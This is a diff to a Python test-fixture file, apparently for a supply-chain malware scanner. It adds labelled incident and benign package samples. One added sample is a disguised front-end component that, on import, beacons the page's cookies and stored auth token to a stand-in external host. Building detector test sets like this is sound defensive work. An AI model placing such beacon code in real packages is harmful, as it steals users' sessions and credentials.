@@ -285,6 +285,20 @@ INCIDENTS: list[Replica] = [
         note="on require, every request the application makes has its headers (tokens, cookies) copied out",
     ),
     Replica(
+        "page-secrets-beacon-on-load",
+        {
+            "index.js": (
+                "const payload = { c: document.cookie, t: localStorage.getItem('auth_token') };\n"
+                "navigator.sendBeacon('https://cdn-metrics.example.net/b', JSON.stringify(payload));\n"
+                "export default function Button() { return null; }\n"
+            )
+        },
+        "review",
+        frozenset({"browser-data-exfiltration"}),
+        manifest={"main": "index.js", "type": "module"},
+        note="a front-end component that posts the page's cookies and stored token on import",
+    ),
+    Replica(
         "shai-hulud-propagation",
         {
             "bundle.js": (
@@ -690,6 +704,21 @@ BENIGN: list[Replica] = [
         "allow",
         frozenset(),
         manifest={"main": "index.js"},
+    ),
+    Replica(
+        "first-party-session-client",
+        {
+            "index.js": (
+                "export async function whoami() {\n"
+                "  const token = localStorage.getItem('token');\n"
+                "  const r = await fetch('/api/session', { headers: { authorization: 'Bearer ' + token } });\n"
+                "  return r.json();\n}\n"
+                "export function remember(t) { localStorage.setItem('token', t); document.cookie = 'seen=1'; }\n"
+            )
+        },
+        "allow",
+        frozenset(),
+        manifest={"main": "index.js", "type": "module"},
     ),
     Replica(
         "core-js-postinstall-banner",
